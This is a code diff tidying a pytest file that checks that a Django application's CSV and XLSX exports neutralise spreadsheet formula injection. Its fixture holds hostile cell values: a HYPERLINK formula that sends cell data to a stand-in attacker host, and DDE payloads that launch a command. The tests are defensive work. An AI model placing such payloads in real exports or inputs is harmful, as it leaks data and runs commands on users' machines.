@@ -4,7 +4,6 @@ numbers the application writes stay numbers."""
 from __future__ import annotations
 
 import ast
-import csv
 import datetime as dt
 import io
 from decimal import Decimal
@@ -21,7 +20,7 @@ from vertebra.reports.imports import import_answers
 pytestmark = pytest.mark.django_db
 
 HOSTILE = {
-    "L1S1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "L1S1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "L1S2": "+1+cmd|' /C calc'!A0",
     "L1M1": "-2+3",
     "L1M2": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -56,9 +55,9 @@ def test_csv_export_prefixes_formula_text_and_quotes_it_but_keeps_numbers_bare(h
     # Evidence is the 8th column: the text with a leading ' inside quotes.
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in rows['"L1S1"']
     assert ",\"'+1+cmd|' /C calc'!A0\"," in rows['"L1S2"']
-    assert ",\"'-2+3\"," in rows['"L1M1"']
+    assert ',"\'-2+3",' in rows['"L1M1"']
     assert ",\"'@SUM(1+1)*cmd|' /C calc'!A0\"," in rows['"L1M2"']
-    assert ",\"#N/A\"," in rows['"L1R1"']
+    assert ',"#N/A",' in rows['"L1R1"']
     assert ',"ordinary; with a separator, and = inside",' in rows['"L1M3"']
     # The progress the application writes is a bare number; the owner is inert text.
     assert ',"in_progress",40,"","","\'-Mayor",' in rows['"P1S1"']
@@ -107,9 +106,7 @@ def test_xlsx_export_stores_every_text_as_text_and_numbers_as_numbers(hostile):
     assert (city.value, city.data_type) == ("=1+2", "s")
     about = {row[0].value: row[1] for row in wb["About"].iter_rows()}
     assert (about["Assessment"].value, about["Assessment"].data_type) == ("@SUM(A1:A9)", "s")
-    assert not any(
-        cell.data_type == "f" for ws in wb for row in ws.iter_rows() for cell in row
-    )
+    assert not any(cell.data_type == "f" for ws in wb for row in ws.iter_rows() for cell in row)
 
 
 def test_every_spreadsheet_writer_is_in_the_exports_module_and_goes_through_its_rows():
